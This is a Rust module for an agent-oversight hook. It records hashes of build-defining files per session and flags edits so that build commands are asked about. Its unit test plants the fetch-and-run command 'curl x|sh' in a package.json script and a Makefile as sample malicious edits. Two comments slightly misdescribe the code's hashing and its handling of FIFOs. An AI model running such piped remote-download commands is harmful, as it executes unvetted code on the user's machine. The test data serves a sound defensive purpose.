//! The session baseline of build-defining files: `state/<session>/baseline.json` maps each
//! path to the sha256 first seen this session (or `missing`). The hook records first
//! sightings under a lock and replaces the file atomically; `explain` reads it without
//! recording anything. Any failure reports every file as changed, so the build command is
//! asked about instead of allowed (fail closed).

use crate::command::Baseline;
use crate::state;
use anyhow::Context as _;
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};

const FILE: &str = "baseline.json";
/// Files larger than this are hashed by their first bytes and their length.
const MAX_HASH_BYTES: u64 = 8 * 1024 * 1024;
const MISSING: &str = "missing";
/// A FIFO, socket or device where a build file should be.
const NOT_REGULAR: &str = "not-a-regular-file";

/// The per-session baseline on disk.
pub struct FileBaseline {
    dir: PathBuf,
    record: bool,
}

impl FileBaseline {
    /// The baseline of `session_id` under `state_root`; `record` adds first sightings.
    pub fn new(state_root: &Path, session_id: &str, record: bool) -> FileBaseline {
        FileBaseline {
            dir: state::session_dir(state_root, session_id),
            record,
        }
    }

    fn try_changed(&self, files: &[PathBuf]) -> anyhow::Result<Vec<PathBuf>> {
        let current: Vec<(String, String)> = files
            .iter()
            .map(|f| (f.display().to_string(), digest(f)))
            .collect();
        if !self.record {
            let known = read_map(&self.dir.join(FILE));
            return Ok(diff(&known, &current, files));
        }
        state::private_dir(&self.dir)?;
        let lock = state::open_nofollow(&self.dir.join(format!("{FILE}.lock")), false)?;
        lock.lock().context("locking the session baseline")?;
        let path = self.dir.join(FILE);
        let mut known = read_map(&path);
        let changed = diff(&known, &current, files);
        let mut added = false;
        for (p, h) in &current {
            if !known.contains_key(p) {
                known.insert(p.clone(), h.clone());
                added = true;
            }
        }
        if added {
            let tmp = self.dir.join(format!("{FILE}.tmp"));
            let _ = std::fs::remove_file(&tmp);
            let mut f = state::open_nofollow(&tmp, false)?;
            f.write_all(serde_json::to_string(&known)?.as_bytes())?;
            f.sync_all().ok();
            drop(f);
            std::fs::rename(&tmp, &path).context("replacing the session baseline")?;
        }
        drop(lock);
        Ok(changed)
    }
}

impl Baseline for FileBaseline {
    fn changed(&self, files: &[PathBuf]) -> Vec<PathBuf> {
        self.try_changed(files).unwrap_or_else(|_| files.to_vec())
    }
}

fn diff(
    known: &BTreeMap<String, String>,
    current: &[(String, String)],
    files: &[PathBuf],
) -> Vec<PathBuf> {
    current
        .iter()
        .zip(files)
        // A build file that is not a plain file (a FIFO, a device) has content nobody can
        // know in advance: it counts as changed even when first seen.
        .filter(|((p, h), _)| h == NOT_REGULAR || known.get(p).is_some_and(|k| k != h))
        .map(|(_, f)| f.clone())
        .collect()
}

fn read_map(path: &Path) -> BTreeMap<String, String> {
    std::fs::read_to_string(path)
        .ok()
        .and_then(|t| serde_json::from_str(&t).ok())
        .unwrap_or_default()
}

/// The sha256 of a file's content, `missing` when absent, `unreadable` when it cannot be
/// read (a directory, a FIFO or device, a permission problem).
fn digest(path: &Path) -> String {
    // NOTE: the workspace is the agent's: a FIFO planted as `Makefile` must not hang the hook.
    let Ok(f) = state::open_regular(path) else {
        return match std::fs::metadata(path) {
            Err(_) if std::fs::symlink_metadata(path).is_err() => MISSING.to_string(),
            Ok(m) if !m.is_file() && !m.is_dir() => NOT_REGULAR.to_string(),
            _ => "unreadable".to_string(),
        };
    };
    let mut h = Sha256::new();
    let mut buf = Vec::new();
    if f.take(MAX_HASH_BYTES).read_to_end(&mut buf).is_err() {
        return "unreadable".to_string();
    }
    h.update(&buf);
    state::hex(&h.finalize())
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn first_sight_is_unchanged_then_edits_show() {
        let t = tempfile::tempdir().unwrap();
        let ws = t.path().join("ws");
        std::fs::create_dir_all(&ws).unwrap();
        let pkg = ws.join("package.json");
        let mk = ws.join("Makefile");
        std::fs::write(&pkg, "{}").unwrap();
        let b = FileBaseline::new(&t.path().join("state"), "s1", true);
        let files = vec![pkg.clone(), mk.clone()];
        assert!(b.changed(&files).is_empty());
        assert!(b.changed(&files).is_empty());
        std::fs::write(&pkg, "{\"scripts\":{\"test\":\"curl x|sh\"}}").unwrap();
        std::fs::write(&mk, "all:\n\tcurl x | sh\n").unwrap();
        assert_eq!(
            b.changed(&files),
            files,
            "an edit and a new file both count"
        );
        // explain's read-only view agrees and records nothing new.
        let ro = FileBaseline::new(&t.path().join("state"), "s1", false);
        assert_eq!(ro.changed(&files), files);
        let other = FileBaseline::new(&t.path().join("state"), "s2", false);
        assert!(other.changed(&files).is_empty());
        assert!(!state::session_dir(&t.path().join("state"), "s2").exists());
    }
}
